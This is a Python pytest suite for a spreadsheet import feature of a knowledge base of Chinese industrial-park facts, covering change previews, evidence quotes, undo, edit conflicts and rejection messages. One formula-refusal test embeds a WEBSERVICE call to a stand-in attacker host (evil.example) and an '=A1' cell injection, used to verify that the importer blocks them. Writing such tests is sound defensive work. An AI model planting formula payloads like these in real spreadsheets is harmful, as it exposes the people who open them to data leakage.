"""Importing: new, changed and retired facts, all as one change; whatever is wrong, with its place."""

import datetime as dt
import io
import re
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook
from sqlalchemy import Engine
from sqlmodel import select

from knowledge.asking.asker import Asker
from knowledge.database import session, writing
from knowledge.exchange import RowState, apply_plan, describe
from knowledge.exchange.applying import ImportRefusedError
from knowledge.history import latest
from knowledge.models import Action, Document, Fact, Origin, StaffRole, Status
from knowledge.notes import TITLE, note_document
from knowledge.people import SHELL, NotAllowedError, Person
from knowledge.publishing import ConflictError
from knowledge.review import Reviewer
from tests.bureau import DOCUMENT, TEXT
from tests.knowledge.exchange.books import (
    add_rows,
    alone,
    change_cells,
    edited,
    export,
    headings,
    plan,
    problems,
    row_of,
    tables,
    take,
)
from tests.knowledge.reading.office import with_part


def entry(engine: Engine, id: str) -> dict[str, Any]:
    with session(engine) as database:
        return latest(database, [id])[id].entry or {}


def test_a_changed_cell_changes_its_field_alone(here: Engine, exported: bytes) -> None:
    before = entry(here, "park.xinghe")
    content = change_cells(exported, "园区载体", "park.xinghe", 类型="基地", 别名="星河园\n星河")
    planned = plan(here, content)

    (row,) = planned.of(RowState.CHANGED)
    assert [(one.field, one.old, one.new) for one in row.changes] == [
        ("form", "园区", "基地"),
        ("aliases", "星河园", "星河园\n星河"),
    ]
    assert planned.counts[RowState.UNCHANGED] == len(tables(here)["fact"]) - 1
    take(here, content)
    assert entry(here, "park.xinghe") == {**before, "form": "base", "aliases": ["星河园", "星河"]}
    with session(here) as database:
        assert database.get_one(Fact, "park.xinghe").origin is Origin.STAFF


def test_new_facts_refer_to_one_another_by_name_and_answer_at_once(here: Engine, exported: bytes) -> None:
    content = add_rows(
        exported,
        "企业",
        {"名称": "白鲸海工", "英文名称": "Baijing", "依据说明": "白鲸海工2024年5月落户,投资3亿元。"},
    )
    content = add_rows(
        content,
        "关系",
        {
            "主体": "白鲸海工",
            "关系": "属于产业链",
            "对象": "深海装备",
            "依据说明": "白鲸海工属于深海装备产业链。",
        },
    )
    content = add_rows(
        content,
        "数据",
        {
            "主体": "白鲸海工",
            "话题": "investment",
            "指标": "投资额",
            "数值": 300_000_000,
            "单位": "元",
            "精确程度": "准确",
            "性质": "计划",
            "依据说明": "白鲸海工2024年5月落户,投资3亿元。",
        },
    )

    change = take(here, content)

    assert change is not None
    assert change.action is Action.IMPORT
    assert entry(here, "link.bai-jing-hai-gong-in-chain-deep-sea")["object_id"] == "chain.deep-sea"
    company = entry(here, "company.bai-jing-hai-gong")
    with session(here) as database:
        document = database.get_one(Document, company["evidence"][0]["document"])
    assert (document.title, document.origin, document.added_by) == (TITLE, Origin.NOTE, "shell")
    reply = Asker(here).ask("白鲸海工投资多少")
    assert "3亿元" in reply.text
    assert reply.sources[0].document == TITLE


def test_evidence_of_a_new_fact_is_found_by_its_words(here: Engine, exported: bytes) -> None:
    row = {"名称": "北岸大道", "类型": "园区", "依据": DOCUMENT, "依据原文": "云港新区北岸大道 ,占地５００亩"}

    take(here, add_rows(alone(exported, "园区载体"), "园区载体", row))

    (evidence,) = entry(here, "park.bei-an-da-dao")["evidence"]
    assert TEXT[evidence["start"] : evidence["end"]] == evidence["quote"] == "云港新区北岸大道,占地500亩"


def test_an_import_is_undone_as_a_whole(here: Engine, exported: bytes) -> None:
    asked = Asker(here).ask("星河航空产业园占地多少").text
    content = change_cells(exported, "园区载体", "park.xinghe", 别名="星河")
    content = change_cells(content, "数据", "figure.xinghe-area", 状态="停用")
    content = add_rows(content, "企业", {"名称": "白鲸海工", "依据说明": "白鲸海工落户。"})
    change = take(here, content)
    assert change is not None
    assert "500" not in Asker(here).ask("星河航空产业园占地多少").text

    with writing(here) as database:
        Reviewer(database, SHELL).undo(change.id or 0)
        database.commit()

    assert entry(here, "park.xinghe")["aliases"] == ["星河园"]
    assert not entry(here, "company.bai-jing-hai-gong")["published"]
    assert Asker(here).ask("星河航空产业园占地多少").text == asked


def test_one_import_after_another_is_undone_the_last_first(here: Engine) -> None:
    with session(here) as database:
        before = {id: held.entry for id, held in latest(database).items()}
    made = []
    for name in ("First", "Second"):
        made.append(take(here, change_cells(export(here), "企业", "company.haideng", 英文名称=name)))

    with writing(here) as database:
        with pytest.raises(ConflictError):
            Reviewer(database, SHELL).undo((made[0] and made[0].id) or 0)
        for change in reversed(made):
            Reviewer(database, SHELL).undo((change and change.id) or 0)
        database.commit()

    with session(here) as database:
        assert {id: held.entry for id, held in latest(database).items()} == before


def test_a_row_taken_out_retires_nothing_and_the_state_does(here: Engine, exported: bytes) -> None:
    def edit(book: Workbook) -> None:
        sheet = book["说法"]
        sheet.delete_rows(row_of(sheet, "statement.lanwan-phases"))

    content = change_cells(edited(exported, edit), "说法", "statement.support-actions", 状态="停用")
    take(here, content)

    with session(here) as database:
        assert database.get_one(Fact, "statement.lanwan-phases").status is Status.PUBLISHED
        assert database.get_one(Fact, "statement.support-actions").status is Status.RETIRED


def test_the_quote_alone_can_be_changed(here: Engine, exported: bytes) -> None:
    quote = "星河航空产业园位于云港新区北岸大道,占地500亩"

    take(here, change_cells(alone(exported, "数据"), "数据", "figure.xinghe-area", 依据原文=quote))

    (evidence,) = entry(here, "figure.xinghe-area")["evidence"]
    assert (evidence["quote"], evidence["start"]) == (quote, TEXT.index(quote))


def test_one_of_two_evidences_can_be_taken_out_on_one_side(here: Engine, exported: bytes) -> None:
    start = TEXT.index("星河航空产业园位于")
    places = f"{DOCUMENT} {TEXT.index('占地500亩')}–{TEXT.index('占地500亩') + 6}\n{DOCUMENT}"
    quotes = "占地500亩\n星河航空产业园位于云港新区北岸大道,占地500亩"
    take(
        here,
        change_cells(alone(exported, "数据"), "数据", "figure.xinghe-area", 依据=places, 依据原文=quotes),
    )
    assert len(entry(here, "figure.xinghe-area")["evidence"]) == 2
    left = f"{DOCUMENT} {start}–{start + 24}"

    take(here, change_cells(export(here), "数据", "figure.xinghe-area", 依据=left))

    (evidence,) = entry(here, "figure.xinghe-area")["evidence"]
    assert evidence["start"] == start


@pytest.mark.parametrize(
    ("sheet", "id", "cells", "field", "value", "key"),
    [
        ("签约", "signing.spring-2024", {"日期": "春天"}, "date", "春天", "not_a_date"),
        ("签约", "signing.spring-2024", {"日期": "2024-02-30"}, "date", "2024-02-30", "no_such_day"),
        ("签约", "signing.spring-2024", {"日期": None}, "date", "", "required"),
        ("数据", "figure.xinghe-area", {"数值": "5亿"}, "value", "5亿", "not_a_number"),
        ("数据", "figure.xinghe-area", {"数值": True}, "value", "True", "not_a_number"),
        ("数据", "figure.xinghe-area", {"数值": 501}, "value", "501.0", "not_borne"),
        ("数据", "figure.xinghe-area", {"性质": "大概"}, "nature", "大概", "not_a_choice"),
        ("数据", "figure.xinghe-area", {"时期": "去年"}, "period", "去年", "bad_period"),
        ("数据", "figure.xinghe-area", {"主体": "月亮公园"}, "subject_id", "月亮公园", "unknown_name"),
        ("数据", "figure.xinghe-area", {"主体": "x (park.x)"}, "subject_id", "x (park.x)", "unknown_id"),
        (
            "职务",
            "post.he-jing-bureau",
            {"人员": "周岚 (person.he-jing)"},
            "person_id",
            "周岚 (person.he-jing)",
            "another_name",
        ),
        ("产业链", "chain.hydrogen", {"排序": 1.5}, "position", "1.5", "not_whole"),
        ("产业链", "chain.hydrogen", {"排序": -1}, "position", "-1", "form"),
        ("区域", "zone.yungang", {"本区": "也许"}, "home", "也许", "not_a_choice"),
        ("企业", "company.haideng", {"名称": "=A1"}, "name", "=A1", "formula"),
        ("企业", "company.haideng", {"名称": "海灯集团", "别名": None}, "name", "海灯集团", "not_borne"),
        (
            "企业",
            "company.haideng",
            {"依据": "nowhere.txt 1–2"},
            "evidence",
            "nowhere.txt 1–2",
            "no_document",
        ),
        (
            "企业",
            "company.haideng",
            {"依据": f"{DOCUMENT} 1–9999"},
            "evidence",
            f"{DOCUMENT} 1–9999",
            "outside",
        ),
        ("企业", "company.haideng", {"依据原文": "海上升明月"}, "quote", "海上升明月", "quote_not_found"),
        ("企业", "company.haideng", {"依据": None, "依据原文": None}, "evidence", "", "no_evidence"),
        ("企业", "company.haideng", {"依据": None}, "evidence", "", "no_evidence"),
        ("企业", "company.haideng", {"依据": None, "依据原文": "海灯科技"}, "quote", "海灯科技", "no_file"),
        ("企业", "company.haideng", {"版本": None}, "version", "", "no_version"),
        ("企业", "company.haideng", {"版本": 7}, "version", "7", "unknown_version"),
        ("企业", "company.haideng", {"编号": "company.other"}, "id", "company.other", "unknown_id"),
        ("企业", "company.haideng", {"编号": None}, "id", "", "version_without_id"),
        ("产业链", "chain.low-altitude", {"状态": "停用"}, "published", "", "needed"),
    ],
)
def test_a_cell_that_is_not_allowed_is_named(
    bureau: Engine,
    exported: bytes,
    sheet: str,
    id: str,
    cells: dict[str, Any],
    field: str,
    value: str,
    key: str,
) -> None:
    planned = plan(bureau, change_cells(alone(exported, sheet), sheet, id, **cells))

    ((title, number, *rest),) = problems(planned)
    assert (title, *rest) == (sheet, field, value, key)
    assert number >= 2
    for language in ("zh", "en"):
        assert f"{number}" in describe(planned, language)


def test_where_a_row_is_rejected_nothing_is_changed(here: Engine, exported: bytes) -> None:
    before = tables(here)
    content = change_cells(exported, "数据", "figure.xinghe-area", 数值=501)
    content = add_rows(content, "企业", {"名称": "白鲸海工", "依据说明": "白鲸海工落户。"})

    with pytest.raises(ImportRefusedError):
        take(here, content)

    assert tables(here) == before


def test_a_rejection_says_where_why_and_what_is_allowed(here: Engine, exported: bytes) -> None:
    content = change_cells(alone(exported, "签约"), "签约", "signing.spring-2024", 日期="春天")

    said = describe(plan(here, content), "zh")

    assert "拒绝 「签约」第2行 「日期」列 «春天» 不是日期。 可以写：2024-02-18" in said
    assert "拒绝 1 行" in said


@pytest.mark.parametrize(
    ("sheet", "row", "key"),
    [
        ("企业", {"名称": "海灯科技有限公司", "依据说明": "海灯科技有限公司。"}, "there_already"),
        ("企业", {"名称": "白鲸"}, "no_evidence"),
        ("企业", {"英文名称": "Whale", "依据说明": "白鲸。"}, "required"),
        ("企业", {"名称": "白鲸", "编号": "park.whale", "依据说明": "白鲸。"}, "bad_id"),
        ("企业", {"名称": "白鲸", "编号": "company." + "x" * 40, "依据说明": "白鲸。"}, "bad_id"),
        ("企业", {"名称": "白鲸", "依据": DOCUMENT}, "no_quote"),
        ("企业", {"名称": "白鲸", "依据": f"{DOCUMENT} 0–4", "依据原文": "别的"}, "quote_elsewhere"),
        ("企业", {"名称": "白鲸", "依据说明": "海豚来了。"}, "not_borne"),
        (
            "关系",
            {"主体": "海灯科技", "关系": "签约于", "对象": "春季签约", "依据说明": "海灯科技签约。"},
            "there_already",
        ),
        (
            "说法",
            {"主体": "低空经济", "话题": "overview", "正文": "有9家企业。", "依据说明": "企业很多。"},
            "not_borne",
        ),
    ],
)
def test_a_new_row_that_cannot_be_taken(
    bureau: Engine, exported: bytes, sheet: str, row: dict[str, Any], key: str
) -> None:
    planned = plan(bureau, add_rows(alone(exported, sheet), sheet, row))

    assert {found for *_, found in problems(planned)} == {key}


def test_the_same_new_row_again_is_seen_as_being_there(here: Engine, exported: bytes) -> None:
    content = add_rows(alone(exported, "企业"), "企业", {"名称": "白鲸海工", "依据说明": "白鲸海工落户。"})
    take(here, content)

    ((_, _, field, value, key),) = problems(plan(here, content))

    assert (field, value, key) == ("name", "白鲸海工", "there_already")


def test_a_copied_row_that_kept_its_id_is_named(here: Engine, exported: bytes) -> None:
    row = {"编号": "company.haideng", "名称": "海灯二厂", "版本": 1, "依据说明": "海灯二厂。"}

    ((_, number, field, _, key),) = problems(plan(here, add_rows(alone(exported, "企业"), "企业", row)))

    assert (number, field, key) == (3, "id", "id_twice")


def test_who_edits_second_is_told_and_nothing_is_overwritten(here: Engine, exported: bytes) -> None:
    take(here, change_cells(alone(exported, "企业"), "企业", "company.haideng", 英文名称="First"))
    before = tables(here)
    second = change_cells(alone(exported, "企业"), "企业", "company.haideng", 英文名称="Second")

    ((_, _, _, value, key),) = problems(plan(here, second))
    with pytest.raises(ConflictError, match=r"company\.haideng"):
        take(here, second)

    assert (value, key) == ("company.haideng", "conflict")
    assert "shell" in describe(plan(here, second), "zh")
    assert tables(here) == before


def test_what_others_changed_meanwhile_stays(here: Engine, exported: bytes) -> None:
    take(here, change_cells(alone(exported, "企业"), "企业", "company.haideng", 英文名称="First"))

    take(here, change_cells(alone(exported, "园区载体"), "园区载体", "park.lanwan", 英文名称="Second"))

    assert entry(here, "company.haideng")["name_en"] == "First"
    assert entry(here, "park.lanwan")["name_en"] == "Second"


def test_a_change_between_preview_and_applying_is_seen(here: Engine, exported: bytes) -> None:
    planned = plan(here, change_cells(alone(exported, "企业"), "企业", "company.haideng", 英文名称="Second"))
    take(here, change_cells(alone(exported, "企业"), "企业", "company.haideng", 英文名称="First"))

    with writing(here) as database, pytest.raises(ConflictError, match=r"company\.haideng"):
        apply_plan(database, planned, Reviewer(database, SHELL))

    assert entry(here, "company.haideng")["name_en"] == "First"


def test_it_takes_a_publisher(here: Engine, exported: bytes) -> None:
    planned = plan(here, change_cells(alone(exported, "企业"), "企业", "company.haideng", 英文名称="x"))

    with writing(here) as database, pytest.raises(NotAllowedError):
        apply_plan(database, planned, Reviewer(database, Person("小李", StaffRole.EDITOR)))


def test_a_renamed_entity_keeps_what_refers_to_it(here: Engine, exported: bytes) -> None:
    content = change_cells(
        alone(exported, "企业"), "企业", "company.haideng", 名称="海灯", 别名="海灯科技有限公司\n海灯科技"
    )

    counts = plan(here, content).counts
    assert (counts[RowState.CHANGED], counts[RowState.REJECTED]) == (1, 0)
    take(here, content)
    assert take(here, content) is None


def test_a_fact_and_what_rests_on_it_retire_together(here: Engine, exported: bytes) -> None:
    content = change_cells(exported, "人物", "person.he-jing", 状态="停用")
    content = change_cells(content, "职务", "post.he-jing-bureau", 状态="停用")

    assert take(here, content) is not None


def test_several_of_one_name_have_to_be_told_apart(here: Engine, exported: bytes) -> None:
    content = add_rows(
        exported, "人物", {"名称": "周岚", "编号": "person.zhou-lan-2", "依据说明": "另一位周岚。"}
    )
    row = {
        "人员": "周岚",
        "单位名称": "投促局",
        "职务名称": "科长",
        "职务类型": "职务",
        "依据说明": "周岚是科长。",
    }

    ((_, _, field, _, key),) = problems(plan(here, add_rows(content, "职务", row)))

    assert (field, key) == ("person_id", "several")


def test_a_note_is_one_document_a_person_and_day(here: Engine, exported: bytes) -> None:
    day = dt.date(2024, 5, 3)
    with writing(here) as database:
        first = note_document(database, "白鲸落户。", "小李", day)
        again = note_document(database, "白鲸落户。", "小李", day)
        other = note_document(database, "白鲸落户。", "小王", day)
        database.commit()
    with session(here) as database:
        kept = database.exec(select(Document).where(Document.origin == Origin.NOTE)).all()

    assert first.sha256 == again.sha256 != other.sha256
    assert {(row.original, row.date, row.title, row.added_by) for row in kept} == {
        ("白鲸落户。", day, TITLE, "小李"),
        ("白鲸落户。", day, TITLE, "小王"),
    }


def test_headings_can_be_in_english_or_as_fields(here: Engine, exported: bytes) -> None:
    def edit(book: Workbook) -> None:
        sheet = book["企业"]
        places = headings(sheet)
        sheet.title = "Companies"
        sheet.cell(1, places["英文名称"]).value = "English name"
        sheet.cell(1, places["名称"]).value = "name"
        sheet.cell(2, places["英文名称"]).value = "New"

    take(here, edited(exported, edit))

    assert entry(here, "company.haideng")["name_en"] == "New"


@pytest.mark.parametrize(
    "formula",
    [
        "<f>1+1</f><v>2</v>",
        '<f t="array" ref="C2">1+1</f><v>2</v>',
        '<f t="shared" si="0" ref="C2">1+1</f><v>2</v>',
        '<f t="shared" si="0"/><v>2</v>',
        "<f/><v>2</v>",
        "<f>WEBSERVICE(&quot;http://evil.example&quot;)</f><v>2</v>",
    ],
)
@pytest.mark.parametrize("kind", ["", ' t="str"'])
def test_a_formula_is_refused_whatever_it_was_last_worked_out_to(
    bureau: Engine, exported: bytes, formula: str, kind: str
) -> None:
    changed = change_cells(alone(exported, "企业"), "企业", "company.haideng", 英文名称="=5+5")
    with zipfile.ZipFile(io.BytesIO(changed)) as archive:
        (name,) = [one for one in archive.namelist() if b"<f>5+5</f>" in archive.read(one)]
        sheet = archive.read(name).decode()
    written = re.sub(
        r"<c( [^>]*?)?(?: t=\"\w+\")?><f>5\+5</f><v ?(?:/>|></v>)",
        lambda cell: f"<c{cell[1]}{kind}>{formula}",
        sheet,
    )
    assert written != sheet
    planned = plan(bureau, with_part(changed, name, written.encode()))

    assert [one[2:3] + one[4:] for one in problems(planned)] == [("name_en", "formula")]
